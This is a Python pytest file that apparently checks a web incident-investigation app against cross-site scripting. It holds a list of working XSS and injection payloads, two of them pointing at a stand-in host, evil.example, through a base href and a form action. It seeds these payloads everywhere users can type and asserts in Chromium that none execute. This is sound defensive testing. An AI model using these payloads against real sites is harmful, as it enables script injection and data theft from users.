"""Invariant: nothing that telemetry, alerts, models or people fill ever becomes an element or runs, in a real browser.

Each page is loaded without the site's policy on scripts, as in a browser that knows none, so that escaping alone has to hold; and
some with it, which must have nothing to report.
"""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Dialog

from middlewatch.records import DEFAULT_TENANT, AgentName, Evidence, Report, Scope, Symptom, Verdict
from tests.axe import violations
from tests.browser import Browser, Page, context_of
from tests.hostile import MARKUP
from tests.hostile_reports import filled
from tests.reports import finding, inconclusive, two_causes
from tests.telemetry_data import START, write_recording
from tests.web_fixtures import chromium, redis, site
from tests.web_server import served
from tests.web_site import WebSite

__all__ = ["chromium", "redis", "site"]

ATTACKS = (
    "<script>owned=1</script>",
    "\"><img class=owned src=x onerror='owned=1'>",
    "'><svg class=owned onload=owned=1>",
    '</title></style></textarea></pre></svg><iframe class=owned srcdoc="<script>parent.owned=1</script>"></iframe>',
    '" autofocus onfocus="owned=1" onmouseover="owned=1" x="',
    "<math><mtext><table><mglyph><style><img class=owned src onerror=owned=1></style></mglyph></table></mtext></math>",
    '<div class=owned hx-on:load="owned=1" hx-get="/sign-in" hx-trigger="load" data-part="/sign-in">',
    "<a class=owned href='javascript:owned=1'>look</a>",
    "<meta class=owned http-equiv=refresh content='0;url=javascript:owned=1'><base class=owned href='//evil.example/'>",
    "<form class=owned action=//evil.example><input name=csrf><button>Approve</button></form>",
    "${owned=1}{{constructor.constructor('owned=1')()}}<%= owned=1 %>",
    "</script><script class=owned>owned=1</script><!--",
    "]]><noscript><p title='</noscript><img class=owned src onerror=owned=1>'>",
    "\u2028owned=1\u2029//\\x3cscript\\x3e\u202e<plaintext class=owned>",
    *MARKUP,
)
"""Each sets a variable of the window if it runs, and most leave an element of a class of their own if they are markup at all."""
SERVICE = ATTACKS[1][:60]
BROKE = 2400
"""Seconds after which the service of the recording is slow and fails."""
NAMES = tuple(f"inv-{n:012x}" for n in range(1, 5))
ASKED, UNSURE, SEVERAL, RUNNING = NAMES


def recorded(site: WebSite, folder: Path) -> str:
    """A recording in which every text is an attack; its name."""
    metrics = [
        {
            "time": at,
            "service": SERVICE,
            "instance": ATTACKS[2],
            "metric": ATTACKS[0],
            "value": 900.0 if at >= BROKE else 5.0 + at % 3,
        }
        for at in range(0, 3600, 15)
    ]
    logs = [{"time": at, "service": SERVICE, "body": f"{ATTACKS[at // 40 % len(ATTACKS)]} {at} done"} for at in range(0, 3600, 40)]
    logs += [{"time": at, "service": SERVICE, "severity": "ERROR", "body": ATTACKS[1]} for at in range(BROKE, 3600, 5)]
    traces = [
        {
            "trace_id": f"{at + 1:032x}",
            "span_id": f"{at:015x}{part}",
            "parent_span_id": f"{at:015x}1" if part == 2 else "",
            "service": SERVICE if part == 2 else ATTACKS[7][:60],
            "name": ATTACKS[3 + part],
            "start_time": at,
            "duration_ns": (800_000_000 if at >= BROKE else 20_000_000) + 2 - part,
            "status_code": "Error" if at >= BROKE else "Unset",
        }
        for at in range(0, 3600, 10)
        for part in (1, 2)
    ]
    changes = [
        {"time": BROKE - 20, "service": SERVICE, "version": ATTACKS[5], "actor": ATTACKS[8], "description": ATTACKS[1]},
    ]
    return site.app.import_recording(
        write_recording(folder / "attack", metrics=metrics, logs=logs, traces=traces, changes=changes)
    ).name


def attacked(site: WebSite, recording: str) -> Report:
    """A finding over it, with the facts that the agents really see there."""
    report = filled(finding(), ATTACKS)
    moved = START + timedelta(seconds=BROKE) - report.alert.detected_at
    alert = report.alert.model_copy(
        update={
            "detected_at": report.alert.detected_at + moved + timedelta(seconds=120),
            "window_end": START + timedelta(seconds=BROKE + 600),
            "symptom": Symptom(service=SERVICE, metric=ATTACKS[0]),
        }
    )
    scope = Scope(tenant=DEFAULT_TENANT, recording=recording)
    opened = site.open(report.model_copy(update={"alert": alert, "scope": scope}), "inv-00000000ffff")
    specialists = site.app.specialists
    seen = [
        Evidence(
            tenant=DEFAULT_TENANT,
            investigation=report.investigation,
            id=f"ev-{agent}-{number}",
            agent=agent,
            round=1,
            anomaly=anomaly,
        )
        for agent in AgentName
        for number, anomaly in enumerate(specialists.assess(specialists.agents[agent], opened, 1).anomalies[:6])
    ]
    site.app.kept.cancel(opened.id)
    assert {fact.agent for fact in seen} == {*AgentName}, "the recording shows something to every agent"
    first, *others = report.hypotheses
    blamed = first.hypothesis.model_copy(update={"service": SERVICE, "evidence": tuple(fact.id for fact in seen[:9])})
    return report.model_copy(
        update={
            "alert": alert,
            "scope": scope,
            "evidence": (*seen, *report.evidence),
            "hypotheses": (first.model_copy(update={"hypothesis": blamed}), *others),
            "onset": None,
        }
    )


@pytest.fixture(scope="module")
def paths(site: WebSite, tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """Every page, after everybody typed an attack wherever something can be typed."""
    report = attacked(site, recorded(site, tmp_path_factory.mktemp("recording")))
    policy = site.app.settings.policy_path
    policy.write_text(policy.read_text(encoding="utf-8").replace("Leo Example", ATTACKS[7].replace('"', '\\"')), encoding="utf-8")
    site.seed(report, ASKED)
    site.seed(filled(inconclusive(), ATTACKS[5:] + ATTACKS[:5]), UNSURE)
    site.seed(filled(two_causes(), ATTACKS[11:] + ATTACKS[:11]), SEVERAL)
    running = filled(finding(), ATTACKS[3:])
    site.open(running, RUNNING)
    leo, mara = (next(one for one in site.app.approvals.people() if one.id == name) for name in ("leo", "mara"))
    for name, note in zip((ASKED, UNSURE, SEVERAL), ATTACKS, strict=False):
        site.app.handlings.assign(name, "leo", mara, note=note, face="web")
        site.app.handlings.give_feedback(name, Verdict.PARTLY, leo, cause=ATTACKS[6], face="web")
    request = site.propose("restart_service", investigation=ASKED, expected_effect=ATTACKS[2], note=ATTACKS[3])
    site.rewrite(request, plan=(*ATTACKS,), why=ATTACKS[9])
    denied = site.propose(investigation=UNSURE, note=ATTACKS[1])
    site.rewrite(denied, why=ATTACKS[10])
    site.app.approvals.halt(mara, ATTACKS[4], face="web")
    site.app.sessions.open("token:mara-token", device=ATTACKS[1])
    shown = {fact.agent: fact.id for fact in reversed(report.evidence)}
    typed = quote(ATTACKS[1], safe="")
    return [
        "/",
        f"/?q={typed}&show=mine",
        *(f"/investigations/{name}" for name in NAMES),
        f"/investigations/{ASKED}?full=1",
        *(f"/investigations/{ASKED}/evidence/{fact}" for fact in shown.values()),
        f"/investigations/{ASKED}/propose",
        f"/investigations/{typed}",
        f"/investigations/{ASKED}/parts/{typed}",
        "/approvals?all=1",
        f"/approvals/{request.id}",
        f"/approvals/{request.id}/confirm?decision=deny&digest={typed}",
        f"/approvals/{typed}",
        "/audit",
        f"/audit?request={typed}",
        "/halt",
        "/investigate",
        "/sessions",
        f"/sign-in?next={typed}",
        f"/?page={typed}",
    ]


LEFT = """() => {
    const all = [...document.querySelectorAll(':not([rel=canonical])')];
    const bad = it => it.matches('.owned, img, iframe, object, embed, base, math, plaintext')
        || it.matches('script:not([src])') || [...it.attributes].some(one => /^(on|hx-on|srcdoc)/.test(one.name))
        || [it.href, it.src, it.action, it.formAction].some(at => typeof at == 'string' && at
            && !at.startsWith(location.origin + '/') && at != 'data:,');
    return [...(window.owned ? ['it ran'] : []), ...all.filter(bad).map(it => it.outerHTML)];
}"""
"""What an attack has left in a page."""


def test_an_attack_that_succeeds_is_seen(site: WebSite, chromium: Browser) -> None:
    missed = []
    with served(site.site) as url, context_of(chromium, site, url, None, bypass_csp=True) as context:
        page = context.new_page()
        for attack in (one for one in ATTACKS if "owned" in one and "<" in one and "${" not in one):
            page.goto("/healthz")
            page.evaluate("it => document.write(`<textarea title=''></textarea><p title='' id=\"x\">${it}`)", attack)
            missed += [] if page.evaluate(LEFT) else [attack]
    assert missed == []


@pytest.mark.parametrize("policy", [True, False])
def test_no_text_of_others_becomes_an_element_or_runs(site: WebSite, chromium: Browser, paths: list[str], *, policy: bool) -> None:
    told: list[str] = []

    def refuse(dialog: Dialog) -> None:
        told.append(dialog.message)
        dialog.dismiss()

    left: dict[str, list[str]] = {}
    with served(site.site) as url, context_of(chromium, site, url, "mara", bypass_csp=not policy) as context:
        page = context.new_page()
        page.on("dialog", refuse)
        page.on("pageerror", lambda error: told.append(f"{page.url}: {error}"))
        page.on("console", lambda said: told.append(f"{page.url}: {said.text}") if "Content Security" in said.text else None)
        for path in paths if not policy else paths[::3]:
            visited(page, path)
            if found := page.evaluate(LEFT):
                left[path] = found
    assert left == {}
    assert told == []


def test_on_a_phone_no_text_of_others_is_wider_than_the_page(site: WebSite, chromium: Browser, paths: list[str]) -> None:
    """And axe-core finds nothing in a page with a chart, a request and patterns, which the made-up ones of its own tests lack."""
    phone = {"width": 390, "height": 844}
    with served(site.site) as url, context_of(chromium, site, url, "mara", viewport=phone) as context:
        page = context.new_page()
        wide = {path: over for path in paths[1:6] + paths[12::2] if (over := over_the_edge(page, path))}
        visited(page, f"/investigations/{ASKED}?full=1")
        assert violations(page) == []
    assert wide == {}


def over_the_edge(page: Page, path: str) -> int:
    """By how many pixels a page is wider than the window."""
    visited(page, path)
    return int(page.evaluate("() => document.documentElement.scrollWidth - innerWidth"))


def visited(page: Page, path: str) -> None:
    page.goto(path)
    page.wait_for_function("() => !document.querySelector('main').textContent.includes('Being read from the telemetry')")
